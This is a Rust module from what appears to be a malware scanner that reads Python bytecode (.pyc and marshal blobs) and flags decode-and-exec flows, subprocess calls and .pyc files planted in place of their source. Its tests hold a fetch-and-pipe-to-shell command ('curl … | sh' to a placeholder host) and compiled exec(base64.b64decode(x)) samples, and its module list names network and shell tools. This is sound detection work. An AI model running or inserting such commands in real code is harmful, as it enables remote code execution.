//! Bytecode judged by what it names: a `marshal` code object (a `.pyc` after its header, or a
//! blob a module passes to `marshal.loads`) is read for every nested code object's names
//! (globals, attributes, imports) and string constants, in the layout of every CPython from 2.7
//! to 3.15. Each code object's names resolve to sources and sinks as source code's calls do; a
//! source and a sink named by the same code object count as a flow (bytecode keeps no
//! expressions to follow), and string constants that are code are analysed as source.

use crate::names::{canonical, sink_of_call, source_of_call};
use crate::value::Span;
use crate::{Analysis, CallFact, Flow, analyse};

/// One code object's names and strings.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CodeObject {
    /// `co_name`.
    pub name: String,
    /// `co_firstlineno`.
    pub line: usize,
    /// `co_names`: globals, attributes and imported modules the code uses.
    pub names: Vec<String>,
    /// String and bytes constants.
    pub strings: Vec<String>,
}

/// How the fields of a code object are laid out: integers before the bytecode, objects up to
/// `co_firstlineno`, objects after it.
#[derive(Debug, Clone, Copy)]
struct Layout {
    ints: usize,
    before: usize,
    after: usize,
}

const LAYOUTS: [Layout; 4] = [
    // 3.11+: argcount, posonly, kwonly, stacksize, flags; code, consts, names, localsplusnames,
    // localspluskinds, filename, name, qualname; firstlineno; linetable, exceptiontable
    Layout {
        ints: 5,
        before: 8,
        after: 2,
    },
    // 3.8–3.10: argcount, posonly, kwonly, nlocals, stacksize, flags
    Layout {
        ints: 6,
        before: 8,
        after: 1,
    },
    // 3.0–3.7: argcount, kwonly, nlocals, stacksize, flags
    Layout {
        ints: 5,
        before: 8,
        after: 1,
    },
    // 2.7: argcount, nlocals, stacksize, flags
    Layout {
        ints: 4,
        before: 8,
        after: 1,
    },
];

/// The layout a `.pyc` magic number names.
fn layout_for_magic(magic: u16) -> Option<Layout> {
    match magic {
        62211 => Some(LAYOUTS[3]),
        3000..=3413 => Some(LAYOUTS[2]),
        3414..=3439 => Some(LAYOUTS[1]),
        3440..=3800 => Some(LAYOUTS[0]),
        _ => None,
    }
}

/// The most objects one blob may hold before reading stops.
const MAX_OBJECTS: usize = 1 << 20;
/// The deepest nesting read.
const MAX_NESTING: usize = 200;

#[derive(Debug, Clone)]
enum Obj {
    Str(String),
    Tuple(Vec<Obj>),
    Code,
    Other,
}

struct Reader<'a> {
    data: &'a [u8],
    pos: usize,
    layout: Layout,
    refs: Vec<Obj>,
    codes: Vec<CodeObject>,
    objects: usize,
    depth: usize,
}

impl Reader<'_> {
    fn byte(&mut self) -> Option<u8> {
        let b = *self.data.get(self.pos)?;
        self.pos += 1;
        Some(b)
    }

    fn int(&mut self) -> Option<i64> {
        let b = self.data.get(self.pos..self.pos + 4)?;
        self.pos += 4;
        Some(i64::from(i32::from_le_bytes([b[0], b[1], b[2], b[3]])))
    }

    fn bytes(&mut self, n: usize) -> Option<&[u8]> {
        let end = self.pos.checked_add(n)?;
        let b = self.data.get(self.pos..end)?;
        self.pos = end;
        Some(b)
    }

    fn len(&mut self) -> Option<usize> {
        usize::try_from(self.int()?).ok()
    }

    fn object(&mut self) -> Option<Obj> {
        self.objects += 1;
        if self.objects > MAX_OBJECTS || self.depth > MAX_NESTING {
            return None;
        }
        let code = self.byte()?;
        let flag = code & 0x80 != 0;
        let kind = code & 0x7f;
        // containers reserve their reference slot before their children
        let slot = if flag && matches!(kind, b'(' | b')' | b'[' | b'{' | b'<' | b'>' | b'c') {
            self.refs.push(Obj::Other);
            Some(self.refs.len() - 1)
        } else {
            None
        };
        self.depth += 1;
        let obj = match kind {
            b'0' | b'N' | b'F' | b'T' | b'S' | b'.' => Obj::Other,
            b'i' => {
                self.int()?;
                Obj::Other
            }
            b'I' => {
                self.bytes(8)?;
                Obj::Other
            }
            b'l' => {
                let n = self.int()?.unsigned_abs() as usize;
                self.bytes(n.checked_mul(2)?)?;
                Obj::Other
            }
            b'f' => {
                let n = usize::from(self.byte()?);
                self.bytes(n)?;
                Obj::Other
            }
            b'g' => {
                self.bytes(8)?;
                Obj::Other
            }
            b'x' => {
                for _ in 0..2 {
                    let n = usize::from(self.byte()?);
                    self.bytes(n)?;
                }
                Obj::Other
            }
            b'y' => {
                self.bytes(16)?;
                Obj::Other
            }
            b's' | b't' | b'a' | b'A' => {
                let n = self.len()?;
                Obj::Str(self.bytes(n)?.iter().map(|&b| char::from(b)).collect())
            }
            b'u' => {
                let n = self.len()?;
                Obj::Str(String::from_utf8_lossy(self.bytes(n)?).into_owned())
            }
            b'z' | b'Z' => {
                let n = usize::from(self.byte()?);
                Obj::Str(crate::eval::latin1(self.bytes(n)?))
            }
            b'R' => {
                // Python 2's reference to an interned string
                let i = self.len()?;
                self.refs.get(i).cloned().unwrap_or(Obj::Other)
            }
            b'r' => {
                let i = self.len()?;
                self.refs.get(i).cloned()?
            }
            b'(' | b'[' | b'<' | b'>' => {
                let n = self.len()?;
                self.items(n)?
            }
            b')' => {
                let n = usize::from(self.byte()?);
                self.items(n)?
            }
            b'{' => {
                loop {
                    if self.data.get(self.pos) == Some(&b'0') {
                        self.pos += 1;
                        break;
                    }
                    self.object()?;
                    self.object()?;
                }
                Obj::Other
            }
            b':' => {
                // 3.14's slice constants
                for _ in 0..3 {
                    self.object()?;
                }
                Obj::Other
            }
            b'c' => self.code()?,
            _ => return None,
        };
        self.depth -= 1;
        match slot {
            Some(i) => self.refs[i] = obj.clone(),
            None if flag => self.refs.push(obj.clone()),
            None => {}
        }
        Some(obj)
    }

    fn items(&mut self, n: usize) -> Option<Obj> {
        if n > self.data.len() {
            return None;
        }
        let mut items = Vec::with_capacity(n.min(1024));
        for _ in 0..n {
            items.push(self.object()?);
        }
        Some(Obj::Tuple(items))
    }

    fn code(&mut self) -> Option<Obj> {
        let layout = self.layout;
        for _ in 0..layout.ints {
            self.int()?;
        }
        let mut fields = Vec::with_capacity(layout.before);
        for _ in 0..layout.before {
            fields.push(self.object()?);
        }
        let line = self.int()?;
        for _ in 0..layout.after {
            self.object()?;
        }
        // fields: code, consts, names, (varnames|localsplusnames), …, name at 6 (2.7/3.x)
        let strings_of = |o: &Obj, out: &mut Vec<String>| {
            if let Obj::Tuple(items) = o {
                for item in items {
                    if let Obj::Str(s) = item {
                        out.push(s.clone());
                    }
                }
            }
        };
        let mut code = CodeObject {
            line: usize::try_from(line).unwrap_or(0),
            ..CodeObject::default()
        };
        if let Some(Obj::Str(name)) = fields.get(if layout.ints == 5 && layout.after == 2 {
            6
        } else {
            7
        }) {
            code.name = name.clone();
        }
        strings_of(&fields[2], &mut code.names);
        // Python 2's `exec` is a statement (EXEC_STMT, opcode 85), not a name
        if layout.ints == 4
            && let Obj::Str(ops) = &fields[0]
            && exec_stmt(ops)
        {
            code.names.push("exec".into());
        }
        strings_of(&fields[1], &mut code.strings);
        self.codes.push(code);
        Some(Obj::Code)
    }
}

/// Whether Python 2 bytecode (as Latin-1 text) has an `EXEC_STMT`.
fn exec_stmt(ops: &str) -> bool {
    let ops: Vec<u8> = ops
        .chars()
        .map(|c| u8::try_from(u32::from(c)).unwrap_or(0))
        .collect();
    let mut i = 0;
    while let Some(&op) = ops.get(i) {
        if op == 85 {
            return true;
        }
        // HAVE_ARGUMENT: opcodes from 90 take two bytes of argument
        i += if op >= 90 { 3 } else { 1 };
    }
    false
}

/// Reads a marshal blob's code objects in the layout given, or in the first layout that reads
/// the whole blob.
pub fn code_objects(data: &[u8], magic: Option<u16>) -> Option<Vec<CodeObject>> {
    let layouts: Vec<Layout> = match magic.and_then(layout_for_magic) {
        Some(l) => vec![l],
        None => LAYOUTS.to_vec(),
    };
    for layout in layouts {
        let mut reader = Reader {
            data,
            pos: 0,
            layout,
            refs: Vec::new(),
            codes: Vec::new(),
            objects: 0,
            depth: 0,
        };
        if let Some(Obj::Code) = reader.object()
            && (magic.is_some() || reader.pos == data.len())
        {
            return Some(reader.codes);
        }
    }
    None
}

/// Reads a `.pyc`: its header (8 bytes up to 3.2, 12 up to 3.6, 16 after), then its code.
pub fn pyc_code_objects(data: &[u8]) -> Option<Vec<CodeObject>> {
    if data.len() < 8 || data[2..4] != *b"\r\n" {
        return None;
    }
    let magic = u16::from_le_bytes([data[0], data[1]]);
    let header = match magic {
        62211 | 3000..=3229 => 8,
        3230..=3378 => 12,
        _ => 16,
    };
    code_objects(data.get(header..)?, Some(magic))
}

/// What of `codes` (a `.pyc`'s code objects) `source` does not spell: the names its code uses
/// (globals, attributes, imports, code object names) that are no identifier of the source, and
/// the words of its string constants that appear nowhere in the source text. Empty when the
/// bytecode can be what CPython compiled from this source; anything else means it was compiled
/// from other code (a `.pyc` planted with the source's mtime and size in its header runs
/// instead of the source). Names are compared with the source's identifier tokens, so a name
/// spelt only in a comment, a docstring or a string does not count as the source's.
///
/// Words are runs of letters, digits and `_` of two characters or more; names the compiler
/// adds itself (`<module>`, dunders such as `__doc__`) are not asked for.
pub fn absent_from_source(codes: &[CodeObject], source: &str) -> Vec<String> {
    use ruff_python_ast::token::TokenKind;
    use ruff_text_size::Ranged;
    let parsed = ruff_python_parser::parse_unchecked(
        source,
        ruff_python_parser::ParseOptions::from(ruff_python_parser::Mode::Module),
    );
    let identifiers: std::collections::HashSet<&str> = parsed
        .tokens()
        .iter()
        .filter(|t| t.kind() == TokenKind::Name)
        .map(|t| &source[std::ops::Range::<usize>::from(t.range())])
        .collect();
    let words = |text: &str| -> Vec<String> {
        text.split(|c: char| !(c.is_alphanumeric() || c == '_'))
            .filter(|w| w.chars().count() >= 2 && !(w.starts_with("__") && w.ends_with("__")))
            .map(str::to_owned)
            .collect()
    };
    let mut absent: Vec<String> = Vec::new();
    let mut note = |word: String| {
        if !absent.contains(&word) {
            absent.push(word);
        }
    };
    for code in codes {
        let names = code
            .names
            .iter()
            .chain((!code.name.starts_with('<')).then_some(&code.name));
        for name in names {
            words(name)
                .into_iter()
                .filter(|w| !identifiers.contains(w.as_str()))
                .for_each(&mut note);
        }
        for text in &code.strings {
            words(text)
                .into_iter()
                .filter(|w| !source.contains(w.as_str()))
                .for_each(&mut note);
        }
    }
    absent
}

/// The most names a module-level code object may have to be judged as one place.
const MAX_MODULE_NAMES: usize = 48;

/// Modules whose names in `co_names` pair with the names after them (`base64`, `b64decode`).
const MODULES: &[&str] = &[
    "os",
    "subprocess",
    "socket",
    "requests",
    "urllib",
    "urllib.request",
    "urllib2",
    "base64",
    "zlib",
    "marshal",
    "pickle",
    "codecs",
    "binascii",
    "bz2",
    "lzma",
    "http.client",
    "httpx",
    "builtins",
    "pty",
    "shutil",
    "platform",
    "getpass",
    "pyperclip",
    "ctypes",
    "winreg",
];

/// A code object with more string constants than this is not read for a command line.
const MAX_COMMAND_CONSTANTS: usize = 12;
/// Nor is a constant longer than this part of one.
const MAX_COMMAND_CHARS: usize = 2048;

/// The facts bytecode gives: per code object, every source and sink its names resolve to,
/// flows from each source to each sink it names together, and its string constants analysed
/// when they are code.
pub fn analyse_bytecode(codes: &[CodeObject]) -> Analysis {
    let mut out = Analysis::default();
    for code in codes {
        let at = Span {
            offset: 0,
            line: code.line,
            text: format!("code object `{}`", code.name),
        };
        let mut dotted: Vec<String> = code.names.iter().map(|n| canonical(n)).collect();
        let modules: Vec<&String> = code
            .names
            .iter()
            .filter(|n| MODULES.contains(&n.as_str()))
            .collect();
        for m in &modules {
            for n in &code.names {
                if !MODULES.contains(&n.as_str()) {
                    dotted.push(format!("{m}.{n}"));
                }
            }
        }
        let mut sources = Vec::new();
        let mut sinks = Vec::new();
        // a module's own code object names everything it imports: only a small one is judged
        // as one place
        if code.name == "<module>" && code.names.len() > MAX_MODULE_NAMES {
            continue;
        }
        for name in &dotted {
            // `compile` is as often `re.compile` as the builtin: bytecode does not tell
            if name == "compile" {
                continue;
            }
            if let Some(s) = source_of_call(name)
                && !sources.contains(&s)
            {
                sources.push(s);
            }
            if let Some(s) = sink_of_call(name)
                && !sinks.iter().any(|(k, _)| *k == s)
            {
                sinks.push((s, name.clone()));
            }
        }
        for &source in &sources {
            out.seen.push((source, at.clone()));
        }
        // a process's command line is among the code object's one-line string constants
        // (`os.system('curl … | sh')`, `Popen(['curl', '-o', '/tmp/x', u])`): bytecode keeps
        // no call expressions, so the rules that read a command read those of a small code
        // object, in order; a large one's constants are not one command
        let command = if code.strings.len() <= MAX_COMMAND_CONSTANTS {
            code.strings
                .iter()
                .filter(|s| s.len() <= MAX_COMMAND_CHARS && !s.contains('\n'))
                .map(String::as_str)
                .collect::<Vec<_>>()
                .join(" ")
        } else {
            String::new()
        };
        for (sink, name) in &sinks {
            out.calls.push(CallFact {
                sink: *sink,
                name: name.clone(),
                at: at.clone(),
                text: match sink {
                    crate::Sink::Process => command.clone(),
                    _ => String::new(),
                },
                constant: sources.is_empty(),
                top_level: code.name == "<module>",
            });
            for &source in &sources {
                out.flows.push(Flow {
                    source,
                    sink: *sink,
                    from: Span {
                        text: format!("{} names {}", at.text, source.as_str()),
                        ..at.clone()
                    },
                    to: Span {
                        text: format!("{} calls {name}", at.text),
                        ..at.clone()
                    },
                    top_level: code.name == "<module>",
                });
            }
        }
        // a string constant that is code: what it does counts here
        for s in code.strings.iter().filter(|s| looks_like_code(s)) {
            let inner = analyse(s);
            out.layers += 1;
            let place = |span: &Span| Span {
                offset: 0,
                line: code.line,
                text: format!("{} (in a string constant of {})", span.text, at.text),
            };
            out.flows.extend(inner.flows.iter().map(|f| Flow {
                from: place(&f.from),
                to: place(&f.to),
                ..f.clone()
            }));
            out.calls.extend(inner.calls.iter().map(|c| CallFact {
                at: place(&c.at),
                ..c.clone()
            }));
        }
    }
    out
}

/// A constant worth parsing as code: several lines or statements with a call or an import.
fn looks_like_code(s: &str) -> bool {
    s.len() > 16
        && s.len() < (1 << 20)
        && s.contains('(')
        && (s.contains("import ") || s.contains("exec") || s.contains('\n'))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `marshal.dumps(compile("import base64\nexec(base64.b64decode(x))\n", "<s>", "exec"))`
    /// by each CPython (pyenv's, Debian's 3.14 and 3.15), hex.
    const BLOBS: &[(&str, &str)] = &[
        (
            "2.7.18",
            "630000000000000000030000004000000073210000006400006401006c00005a00006500006a0100650200830100640100045564010053280200000069ffffffff4e2803000000740600000062617365363474090000006236346465636f646574010000007828000000002800000000280000000073030000003c733e74080000003c6d6f64756c653e0100000073020000000c01",
        ),
        (
            "3.6.15",
            "e30000000000000000000000000300000040000000731a000000640064016c005a00650165006a026503830183010100640153002902e9000000004e2904da06626173653634da04657865635a096236346465636f6465da0178a90072050000007205000000fa033c733eda083c6d6f64756c653e0100000073020000000801",
        ),
        (
            "3.8.18",
            "e3000000000000000000000000000000000400000040000000731a000000640064016c005a0065016500a0026503a10183010100640153002902e9000000004e2904da06626173653634da04657865635a096236346465636f6465da0178a90072050000007205000000fa033c733eda083c6d6f64756c653e0100000073020000000801",
        ),
        (
            "3.11.7",
            "e30000000000000000000000000500000000000000f3400000009700640064016c005a0002006501020065006a0200000000000000006503a6010000ab010000000000000000a6010000ab0100000000000000000100640153002902e9000000004e2904da06626173653634da0465786563da096236346465636f6465da0178a900f300000000fa033c733efa083c6d6f64756c653e720a000000010000007332000000f003010101d8000d800d800d800dd800048004d005158056d405159061d10518d40518d10019d40019d00019d00019d000197208000000",
        ),
        (
            "3.13.0",
            "e30000000000000000000000000500000000000000f33c0000009500530053014b0072005c0122005c00520400000000000000000000000000000000000022005c0335010000000000003501000000000000200067012902e9000000004e2904da06626173653634da0465786563da096236346465636f6465da0178a900f300000000da033c733eda083c6d6f64756c653e720a00000001000000731b000000f003010101db000dd900048056d70515d205159061d30518d500197208000000",
        ),
        (
            "3.14",
            "e30000000000000000000000000500000000000000f33e00000080005e005201490074005d0121005d00500400000000000000000000000000000000000021005d03340100000000000034010000000000001f00520123002902e9000000004e2904da06626173653634da0465786563da096236346465636f6465da0178a900f300000000da033c733eda083c6d6f64756c653e720a00000001000000731b000000f003010101db000dd900048056d70515d205159061d30518d600197208000000",
        ),
        (
            "3.15",
            "e30000000000000000000000000500000000000000f340000000800000005d005007480073005c011f005c004f040000000000000000000000000000000000001f005c03320100000000000032010000000000001d00500721002901e9000000002904da06626173653634da0465786563da096236346465636f6465da0178a900f300000000da033c733eda083c6d6f64756c653e720a00000001000000731b000000f103010101db000dd900048056d70515d205159061d30518d600197208000000",
        ),
    ];

    fn unhex(h: &str) -> Vec<u8> {
        (0..h.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&h[i..i + 2], 16).unwrap())
            .collect()
    }

    #[test]
    fn reads_code_objects_of_every_version() {
        for (version, hex) in BLOBS {
            let codes =
                code_objects(&unhex(hex), None).unwrap_or_else(|| panic!("{version}: not read"));
            assert_eq!(codes.len(), 1, "{version}");
            assert!(
                codes[0].names.iter().any(|n| n == "b64decode"),
                "{version}: {codes:?}"
            );
            assert_eq!(codes[0].name, "<module>", "{version}");
            let facts = analyse_bytecode(&codes);
            assert!(
                facts
                    .flows
                    .iter()
                    .any(|f| f.source == crate::Source::Decoded && f.sink == crate::Sink::Exec),
                "{version}: {facts:?}"
            );
        }
    }

    #[test]
    fn a_small_code_objects_constants_are_its_command_line() {
        let code = CodeObject {
            name: "<module>".into(),
            line: 1,
            names: vec!["os".into(), "system".into()],
            strings: vec!["curl -s http://h/x | sh".into(), "a\nmultiline text".into()],
        };
        let process = |codes: &[CodeObject]| {
            analyse_bytecode(codes)
                .calls
                .into_iter()
                .find(|c| c.sink == crate::Sink::Process)
                .expect("os.system is a process")
        };
        assert_eq!(
            process(std::slice::from_ref(&code)).text,
            "curl -s http://h/x | sh"
        );
        // a large code object's constants are not one command
        let big = CodeObject {
            strings: (0..MAX_COMMAND_CONSTANTS)
                .map(|i| format!("s{i}"))
                .chain(code.strings.iter().cloned())
                .collect(),
            ..code
        };
        assert_eq!(process(&[big]).text, "");
    }

    #[test]
    fn garbage_is_not_code() {
        assert_eq!(code_objects(b"\xe3\xff\xff\xff\xff", None), None);
        assert_eq!(code_objects(b"", None), None);
        assert_eq!(pyc_code_objects(b"\x00\x00\r\n"), None);
    }
}
